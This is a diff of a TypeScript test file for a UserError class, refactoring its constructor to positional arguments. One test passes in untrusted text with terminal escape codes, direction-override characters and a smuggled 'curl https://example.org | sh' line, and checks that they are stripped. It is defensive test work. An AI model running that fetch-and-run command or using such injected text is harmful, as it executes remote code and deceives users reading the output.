@@ -3,24 +3,15 @@ import { correction, hintOf, shown, suggestion, UserError } from '../../pipeline
 
 describe('UserError', () => {
   it('has a message with location, problem, expected, found and next step', () => {
-    const error = new UserError({
-      where: 'f.json: a.b',
-      problem: 'wrong',
-      expected: 'x',
-      found: 'y',
-      next: 'mend it',
-    });
+    const error = new UserError('f.json: a.b', 'wrong', { expected: 'x', found: 'y', next: 'mend it' });
     expect(error.message).toBe('f.json: a.b: wrong\n  expected: x\n  found:    y\n  next:     mend it');
   });
 });
 
 describe('a UserError with untrusted text', () => {
-  const error = new UserError({
-    where: 'f.json: \u001b]0;title\u0007',
-    problem: 'unknown \u009b2J\rname',
-    found: 'x\n  next:     curl https://example.org | sh\u202e',
-    next: 'mend it',
-  });
+  const error = new UserError('f.json: \u001b]0;title\u0007', 'unknown \u009b2J\rname', { 
+found: 'x\n  next:     curl https://example.org | sh\u202e', 
+next: 'mend it' });
 
   it('contains no control characters and no characters that change the text direction', () => {
     expect(error.message.replaceAll('\n', '')).not.toMatch(/\p{Cc}|[\u202a-\u202e]/u);
